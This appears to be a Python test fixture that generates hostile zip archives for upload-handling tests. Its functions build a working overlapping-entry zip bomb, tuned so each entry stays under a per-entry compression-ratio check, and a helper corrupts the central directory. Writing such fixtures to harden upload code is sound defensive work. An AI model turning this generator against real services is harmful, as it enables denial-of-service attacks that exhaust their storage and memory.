"""Hostile zips for upload tests, built byte by byte (zipfile refuses to write them).

`overlapping_zip`: the "quoted overlap" bomb. Every entry's compressed data begins with a
stored deflate block that quotes the next entry's local header, then runs on into the next
entry's data, so all entries end in one shared compressed kernel. Each entry declares a
size that looks harmless next to its (double-counted) compressed size, yet the zip is tiny
and extracting it writes `count` times the kernel.
"""

from __future__ import annotations

import struct
import zlib

import numpy as np

LOCAL = struct.Struct("<4sHHHHHIIIHH")
CENTRAL = struct.Struct("<4sHHHHHHIIIHHHHHII")
END = struct.Struct("<4sHHHHIIH")
DEFLATED = 8


def compressible_kernel(size: int, seed: int = 0) -> bytes:
    """`size` bytes of runs of random bytes: deflate shrinks them about 100x (not 1000x, so
    every entry stays under a per-entry ratio check)."""
    rng = np.random.default_rng(seed)
    out, total = [], 0
    while total < size:
        run = int(rng.integers(60, 160))
        out.append(bytes([int(rng.integers(0, 256))]) * run)
        total += run
    return b"".join(out)[:size]


def _raw_deflate(data: bytes) -> bytes:
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    return packer.compress(data) + packer.flush()


def _stored_block_start(length: int) -> bytes:
    """The 5 bytes that open a non-final stored deflate block of `length` bytes (at a byte
    boundary): whatever follows in the file is that block's content."""
    return b"\x00" + struct.pack("<HH", length, length ^ 0xFFFF)


def _local_header(name: bytes, crc: int, compressed: int, size: int) -> bytes:
    return LOCAL.pack(b"PK\x03\x04", 20, 0, DEFLATED, 0, 0x21, crc, compressed, size, len(name), 0) + name


def overlapping_zip(count: int, kernel: bytes, name: str = "img{:03d}.png") -> bytes:
    """A zip of `count` entries (named by `name.format(i)`) whose data all ends in one
    deflated copy of `kernel`; entry i expands to the local headers of entries i+1.. plus
    the kernel."""
    names = [name.format(i).encode() for i in range(count)]
    kernel_z = _raw_deflate(kernel)
    # Built from the last entry back: each entry quotes the header of the one after it.
    headers: list[bytes] = [b""] * count
    crcs, sizes, compressed = [0] * count, [0] * count, [0] * count
    for i in reversed(range(count)):
        following = headers[i + 1:]
        crc = 0
        for header in following:
            crc = zlib.crc32(header, crc)
        crcs[i] = zlib.crc32(kernel, crc)
        sizes[i] = sum(map(len, following)) + len(kernel)
        compressed[i] = sum(len(h) + 5 for h in following) + len(kernel_z)
        headers[i] = _local_header(names[i], crcs[i], compressed[i], sizes[i])
    # header 0, a stored block quoting header 1, header 1 itself, ..., the last header, the kernel
    body = b"".join(headers[i] + (_stored_block_start(len(headers[i + 1])) if i + 1 < count else kernel_z)
                    for i in range(count))
    offsets, position = [], 0
    for i in range(count):
        offsets.append(position)
        position += len(headers[i]) + (5 if i + 1 < count else len(kernel_z))
    central = b"".join(
        CENTRAL.pack(b"PK\x01\x02", 20, 20, 0, DEFLATED, 0, 0x21, crcs[i], compressed[i], sizes[i],
                     len(names[i]), 0, 0, 0, 0, 0, offsets[i]) + names[i]
        for i in range(count))
    end = END.pack(b"PK\x05\x06", 0, 0, count, count, len(central), len(body), 0)
    return body + central + end


def stretch_last_entry(data: bytes, extra: int) -> bytes:
    """`data` (a zip) with its last central-directory entry declaring `extra` more compressed
    bytes than it has, so that its data would run on into the central directory."""
    end = data.rindex(b"PK\x05\x06")
    _, _, _, _, count, size, offset, _ = END.unpack_from(data, end)
    position, last = offset, None
    for _ in range(count):
        fields = CENTRAL.unpack_from(data, position)
        last = position
        position += CENTRAL.size + fields[10] + fields[11] + fields[12]  # name, extra, comment
    fields = list(CENTRAL.unpack_from(data, last))
    fields[8] += extra  # compressed size
    return data[:last] + CENTRAL.pack(*fields) + data[last + CENTRAL.size:]
